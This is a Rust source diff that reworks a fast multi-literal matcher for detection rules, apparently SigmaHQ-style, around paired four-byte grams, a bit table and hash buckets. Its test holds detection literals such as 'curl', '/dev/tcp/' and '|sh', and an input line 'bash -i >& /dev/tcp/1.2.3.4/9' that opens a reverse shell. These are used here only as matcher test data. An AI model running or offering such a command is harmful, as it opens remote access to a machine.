@@ -1,21 +1,22 @@
 //! Many literals, found in one pass over a text.
 //!
 //! In: literals, each with the numbers of what it stands for, once; texts, often. Out: the numbers of the literals that
-//! stand in a text, in any case. Of each literal the rarest-looking run of four bytes (its gram) is kept; a pass looks
-//! at each four bytes of the text, asks a small table of bits whether they are a gram at all, and compares the literal
-//! only where they are. A pass depends little on the number of literals, and needs no automaton to be built: rules
-//! load in no time. A literal of three bytes has as many grams as there are fourth bytes. Shorter ones are left out on
+//! stand in a text, in any case. Of each literal the rarest-looking run of five bytes is kept as two grams of four, one
+//! of which stands at an even place of the text wherever the literal does: so a pass looks at every second place
+//! only, asks a small table of bits whether the four bytes there are a gram at all, and compares the literal only where
+//! they are. A pass depends little on the number of literals, and needs no automaton to be built: rules load in no
+//! time. Literals of three and four bytes have grams with one byte that may be any. Shorter ones are left out on
 //! purpose: they stand nearly everywhere. Texts that are not ASCII must be folded by the caller.
 //!
 //! Bounded: a pass costs the length of the text times the literals that share a gram, which [`Literals::new`] keeps few.
 
-use rustc_hash::FxHashMap;
+use super::fold::is_folded;
 use std::collections::BTreeMap;
 
 /// Shortest literal.
 pub(super) const LITERAL_BYTES: usize = 3;
-/// Bits of the table, as a power of two: 8 KiB, a sixth of a usual first-level cache. Some 2,000 grams, as all of
-/// SigmaHQ's rules have in one field, fill it to 3 %. One size for all, so that a pass has nothing to check.
+/// Bits of the table, as a power of two: 8 KiB, a sixth of a usual first-level cache. Some 4,000 grams, as all of
+/// SigmaHQ's rules have in one field, fill it to 6 %. One size for all, so that a pass has nothing to check.
 const TABLE_BITS: u32 = 16;
 const TABLE_WORDS: usize = 1 << (TABLE_BITS - 6);
 /// 2^32 divided by the golden ratio (Knuth, The Art of Computer Programming 3, §6.4): spreads what is alike.
@@ -24,110 +25,265 @@ const SPREAD: u32 = 0x9E37_79B1;
 const CASE: u32 = 0x2020_2020;
 /// The first three bytes of a gram.
 const SHORT: u32 = 0x00FF_FFFF;
+/// Bytes that are read at once: four grams at every second place.
+const BLOCK_BYTES: usize = 10;
+/// How far the next block is.
+const BLOCK_STEP: usize = 8;
+/// Grams that stand in most paths and command lines.
+const COMMON_GRAMS: [&[u8; 4]; 14] = [
+    b"/usr", b"usr/", b"sr/b", b"r/bi", b"/bin", b"bin/", b"/etc", b"etc/", b"/var", b"/lib", b"http",
+    b"ttp:", b".exe", b"syst",
+];
 
 /// Literals of one field.
 #[derive(Debug, Default)]
 pub(super) struct Literals {
     /// A bit for each hash of a gram; nothing where there are no literals.
     table: Option<Box<[u64; TABLE_WORDS]>>,
-    /// By gram; those of three bytes have a fourth of 0.
-    grams: FxHashMap<u32, Vec<Literal>>,
+    literals: Vec<Literal>,
+    /// Where literals have their grams.
+    whole: Buckets,
+    /// The same for grams of three bytes.
+    short: Buckets,
 }
 
 #[derive(Debug)]
 struct Literal {
     /// Folded.
     text: Box<[u8]>,
-    /// Where its gram stands in it.
-    at: usize,
-    stands_for: Box<[usize]>,
+    stands_for: Box<[u32]>,
+}
+
+/// A gram of a literal.
+#[derive(Debug, Clone, Copy)]
+struct Spot {
+    gram: u32,
+    literal: u32,
+    /// A literal whose gram stands at `place` begins at `place` + 1 - `back`.
+    back: u32,
 }
 
 impl Literals {
     /// Makes folded literals ready; those that are too short are left out.
-    pub(super) fn new(literals: BTreeMap<String, Vec<usize>>) -> Self {
+    pub(super) fn new(literals: BTreeMap<String, Vec<u32>>) -> Self {
         let mut ready = Self::default();
-        for (text, stands_for) in literals {
-            ready.add(text.into_bytes().into_boxed_slice(), stands_for.into_boxed_slice());
+        let (mut whole, mut short) = (Vec::new(), Vec::new());
+        let mut uses: BTreeMap<u32, i64> = BTreeMap::new();
+        for (text, stands_for) in literals.into_iter().filter(|(text, _)| text.len() >= LITERAL_BYTES) {
+            let literal = u32::try_from(ready.literals.len()).unwrap_or(u32::MAX);
+            let text = text.into_bytes().into_boxed_slice();
+            let spot = |gram, back| Spot { gram, literal, back };
+            match *text {
+                [a, b, c] => {
+                    let gram = gram([a, b, c, 0]) & SHORT;
+                    short.extend([spot(gram, 1), spot(gram, 0)]);
+                    ready.expect_first(gram);
+                    ready.expect_last(gram);
+                }
+                [a, b, c, d] => {
+                    whole.push(spot(gram([a, b, c, d]), 1));
+                    let tail = gram([a, b, c, 0]) & SHORT;
+                    short.push(spot(tail, 0));
+                    ready.expect(gram([a, b, c, d]));
+                    ready.expect_last(tail);
+                }
+                _ => {
+                    let (at, pair) = rarest_pair(&text, &uses);
+                    let back = u32::try_from(at).unwrap_or(u32::MAX).saturating_add(1);
+                    for (gram, back) in pair.into_iter().zip([back, back.saturating_add(1)]) {
+                        whole.push(spot(gram, back));
+                        *uses.entry(gram).or_default() += 1;
+                        ready.expect(gram);
+                    }
+                }
+            }
+            ready.literals.push(Literal { text, stands_for: stands_for.into_boxed_slice() });
         }
+        ready.whole = Buckets::new(whole);
+        ready.short = Buckets::new(short);
         ready
-    }
-
-    fn add(&mut self, text: Box<[u8]>, stands_for: Box<[usize]>) {
-        if text.len() == LITERAL_BYTES {
-            let short = gram(&text) & SHORT;
-            (0..=u8::MAX).for_each(|fourth| self.expect(short | u32::from(fourth) << 24 | CASE));
-            return self.grams.entry(short).or_default().push(Literal { text, at: 0, stands_for });
-        }
-        let choices = text.windows(4).enumerate().map(|(at, bytes)| {
-            let gram = gram(bytes);
-            // Two that share a gram are worse than one that looks a little less rare.
-            let sharing = i64::try_from(self.grams.get(&gram).map_or(0, Vec::len)).unwrap_or(i64::MAX / 8);
-            let rank = bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing;
-            (rank, std::cmp::Reverse(at), gram)
-        });
-        if let Some((_, std::cmp::Reverse(at), gram)) = choices.max() {
-            self.expect(gram);
-            self.grams.entry(gram).or_default().push(Literal { text, at, stands_for });
-        }
     }
 
     /// Sets the bit of a gram.
     fn expect(&mut self, gram: u32) {
-        let (word, bit) = place(gram);
+        let hash = spread(gram);
         let table = self.table.get_or_insert_with(|| Box::new([0; TABLE_WORDS]));
-        if let Some(word) = table.get_mut(word) {
-            *word |= 1 << bit;
+        if let Some(word) = table.get_mut((hash >> 22) as usize) {
+            *word |= 1 << (hash >> 16 & 63);
         }
+    }
+
+    /// Sets the bits of the grams that begin with these three bytes.
+    fn expect_first(&mut self, short: u32) {
+        (0..=u8::MAX).for_each(|other| self.expect(short | u32::from(other) << 24 | CASE));
+    }
+
+    /// Sets the bits of the grams that end with these three bytes.
+    fn expect_last(&mut self, short: u32) {
+        (0..=u8::MAX).for_each(|other| self.expect(short << 8 | u32::from(other) | CASE));
     }
 
     /// Calls `found` with the numbers of each literal that stands in `text`, perhaps more than once.
     #[inline]
-    pub(super) fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
+    pub(super) fn find(&self, text: &[u8], found: &mut impl FnMut(u32)) {
         let Some(table) = self.table.as_deref() else { return };
-        let mut look = |at: usize, gram: u32| {
-            let (word, bit) = place(gram);
-            if table.get(word).is_some_and(|word| word >> bit & 1 == 1) {
-                self.compare(text, at, gram, found);
-            }
-        };
-        for (at, bytes) in text.array_windows::<4>().enumerate() {
-            look(at, u32::from_le_bytes(*bytes) | CASE);
+        let (mut rest, mut at) = (text, 0);
+        while let Some(block) = rest.first_chunk::<BLOCK_BYTES>() {
+            self.look(table, text, at, block, found);
+            at += BLOCK_STEP;
+            let Some(next) = rest.get(BLOCK_STEP..) else { break };
+            rest = next;
         }
-        // Three bytes at the end have no fourth.
-        if let Some(at) = text.len().checked_sub(LITERAL_BYTES) {
-            look(at, gram(text.get(at..).unwrap_or_default()));
+        if rest.len() >= LITERAL_BYTES {
+            // What no literal has stands after the end.
+            let mut block = [0; BLOCK_BYTES];
+            block.iter_mut().zip(rest).for_each(|(into, byte)| *into = *byte);
+            self.look(table, text, at, &block, found);
         }
     }
 
-    /// Compares the literals whose gram stands in `text` at `at`.
+    /// Looks at the places of one block that stands in `text` at `at`.
+    #[inline]
+    fn look(
+        &self,
+        table: &[u64; TABLE_WORDS],
+        text: &[u8],
+        at: usize,
+        block: &[u8; BLOCK_BYTES],
+        found: &mut impl FnMut(u32),
+    ) {
+        let (Some(start), Some(end)) = (block.first_chunk::<8>(), block.last_chunk::<4>()) else { return };
+        let start = u64::from_le_bytes(*start) | u64::from(CASE) << 32 | u64::from(CASE);
+        let part = |shift: u32| (start >> shift & u64::from(u32::MAX)) as u32;
+        let grams = [part(0), part(16), part(32), gram(*end)];
+        let bits = grams.map(|gram| bit(table, gram));
+        let [first, second, third, fourth] = bits;
+        if (first | second | third | fourth) & 1 == 1 {
+            self.compare_block(text, at, grams, bits, found);
+        }
+    }
+
+    /// Compares the literals that may stand at the places of a block at `at` whose bits are set.
     #[cold]
     #[inline(never)]
-    fn compare(&self, text: &[u8], at: usize, gram: u32, found: &mut impl FnMut(usize)) {
-        for gram in [gram, gram & SHORT] {
-            for literal in self.grams.get(&gram).into_iter().flatten() {
-                let stands = at.checked_sub(literal.at).is_some_and(|start| {
-                    text.get(start..start + literal.text.len())
-                        .is_some_and(|part| part.eq_ignore_ascii_case(&literal.text))
-                });
-                if stands {
-                    literal.stands_for.iter().for_each(|number| found(*number));
-                }
+    fn compare_block(
+        &self,
+        text: &[u8],
+        at: usize,
+        grams: [u32; 4],
+        bits: [u64; 4],
+        found: &mut impl FnMut(u32),
+    ) {
+        let mut place = at;
+        for (gram, bit) in grams.into_iter().zip(bits) {
+            if bit & 1 == 1 {
+                self.compare_at(text, place, gram, found);
             }
+            place += 2;
+        }
+    }
+
+    /// Compares the literals that have this gram, which stands in `text` at `place`.
+    #[inline]
+    fn compare_at(&self, text: &[u8], place: usize, gram: u32, found: &mut impl FnMut(u32)) {
+        for spot in self.whole.of(gram) {
+            if spot.gram == gram {
+                self.compare(text, place, spot, found);
+            }
+        }
+        if self.short.spots.is_empty() {
+            return;
+        }
+        for spot in self.short.of(gram & SHORT) {
+            if spot.gram == gram & SHORT && spot.back == 1 {
+                self.compare(text, place, spot, found);
+            }
+        }
+        for spot in self.short.of(gram >> 8) {
+            if spot.gram == gram >> 8 && spot.back == 0 {
+                self.compare(text, place, spot, found);
+            }
+        }
+    }
+
+    /// Compares a literal whose gram stands in `text` at `place`.
+    #[inline]
+    fn compare(&self, text: &[u8], place: usize, spot: &Spot, found: &mut impl FnMut(u32)) {
+        let Some(literal) = self.literals.get(spot.literal as usize) else { return };
+        let stands = (place + 1).checked_sub(spot.back as usize).is_some_and(|start| {
+            text.get(start..start + literal.text.len()).is_some_and(|part| is_folded(part, &literal.text))
+        });
+        if stands {
+            literal.stands_for.iter().for_each(|number| found(*number));
         }
     }
 }
 
-/// Where in the table a gram has its bit: word and bit.
-#[inline]
-fn place(gram: u32) -> (usize, u32) {
-    let hash = gram.wrapping_mul(SPREAD) >> (u32::BITS - TABLE_BITS);
-    ((hash >> 6) as usize, hash & 63)
+/// Spots by hash of their gram.
+#[derive(Debug, Default)]
+struct Buckets {
+    /// Where in `spots` each bucket begins, and the end of the last; a power of two and one, or nothing.
+    starts: Vec<u32>,
+    spots: Vec<Spot>,
+    shift: u32,
 }
 
-/// Up to four bytes as a number, without case.
-fn gram(bytes: &[u8]) -> u32 {
-    bytes.iter().take(4).rev().fold(0, |gram, byte| gram << 8 | u32::from(*byte)) | CASE
+impl Buckets {
+    fn new(mut spots: Vec<Spot>) -> Self {
+        if spots.is_empty() {
+            return Self::default();
+        }
+        let bits = spots.len().next_power_of_two().ilog2().clamp(1, 16);
+        let shift = u32::BITS - bits;
+        let bucket = |spot: &Spot| spread(spot.gram) >> shift;
+        spots.sort_by_key(bucket);
+        let starts = (0..=1_u32 << bits).map(|number| {
+            u32::try_from(spots.partition_point(|spot| bucket(spot) < number)).unwrap_or(u32::MAX)
+        });
+        Self { starts: starts.collect(), spots, shift }
+    }
+
+    /// The spots whose gram has the hash of this one.
+    #[inline]
+    fn of(&self, gram: u32) -> &[Spot] {
+        let bucket = (spread(gram).checked_shr(self.shift).unwrap_or(0)) as usize;
+        let Some(ends) = self.starts.get(bucket..).and_then(<[u32]>::first_chunk::<2>) else { return &[] };
+        let [start, end] = *ends;
+        self.spots.get(start as usize..end as usize).unwrap_or_default()
+    }
+}
+
+/// The bit of a gram, lowest of the number.
+#[inline]
+fn bit(table: &[u64; TABLE_WORDS], gram: u32) -> u64 {
+    let hash = spread(gram);
+    table.get((hash >> 22) as usize).map_or(0, |word| word >> (hash >> 16 & 63))
+}
+
+#[inline]
+fn spread(gram: u32) -> u32 {
+    gram.wrapping_mul(SPREAD)
+}
+
+/// Four bytes as a number, without case.
+#[inline]
+fn gram(bytes: [u8; 4]) -> u32 {
+    u32::from_le_bytes(bytes) | CASE
+}
+
+/// Where the two grams of a literal of at least five bytes stand that look rarest, and the grams.
+fn rarest_pair(text: &[u8], uses: &BTreeMap<u32, i64>) -> (usize, [u32; 2]) {
+    let choices = text.array_windows::<5>().enumerate().map(|(at, &[a, b, c, d, e])| {
+        let pair = [[a, b, c, d], [b, c, d, e]];
+        let rank = pair.map(|bytes| {
+            // Two that share a gram are worse than one that looks a little less rare.
+            let sharing = uses.get(&gram(bytes)).copied().unwrap_or(0);
+            let common = if COMMON_GRAMS.contains(&&bytes) { 8 } else { 0 };
+            bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing - common
+        });
+        (rank.into_iter().min(), rank.into_iter().sum::<i64>(), std::cmp::Reverse(at), pair.map(gram))
+    });
+    choices.max().map_or((0, [0; 2]), |(_, _, at, pair)| (at.0, pair))
 }
 
 /// How rarely a byte is seen in paths, command lines and log texts, roughly.
@@ -146,10 +302,22 @@ mod tests {
 
     #[test]
     fn every_literal_in_a_text_is_found_whatever_its_length_and_place() {
-        let words = ["-i ", "curl", "/dev/tcp/", "aaaa", "nothere", "ñandú", "|sh", "aaa"];
-        let literals = words.iter().enumerate().map(|(number, word)| ((*word).to_owned(), vec![number]));
+        let words = [
+            "-i ",
+            "curl",
+            "/dev/tcp/",
+            "aaaa",
+            "aaaaa",
+            "nothere",
+            "ñandú",
+            "|sh",
+            "aaa",
+            "xyzzy",
+            "plugh plover",
+        ];
+        let literals = (0..).zip(words).map(|(number, word)| (word.to_owned(), vec![number]));
         let set = Literals::new(literals.collect());
-        for text in [
+        let texts = [
             "bash -i >& /dev/tcp/1.2.3.4/9",
             "CURL",
             "curl x|SH",
@@ -161,13 +329,19 @@ mod tests {
             "aaa",
             "el ñandú",
             "nother",
-        ] {
+        ];
+        let padded = (0..24).flat_map(|before| {
+            let pad =
+                |word: &&str, after: usize| format!("{}{word}{}", "-".repeat(before), ".".repeat(after));
+            words.iter().flat_map(move |word| (0..12).map(move |after| pad(word, after))).collect::<Vec<_>>()
+        });
+        for text in texts.into_iter().map(str::to_owned).chain(padded) {
             let mut found = Vec::new();
             set.find(text.as_bytes(), &mut |number| found.push(number));
             found.sort_unstable();
             found.dedup();
             let lower = text.to_lowercase();
-            let expect: Vec<usize> =
+            let expect: Vec<u32> =
                 (0..).zip(words).filter(|(_, word)| lower.contains(word)).map(|(number, _)| number).collect();
             assert_eq!(found, expect, "{text}");
         }
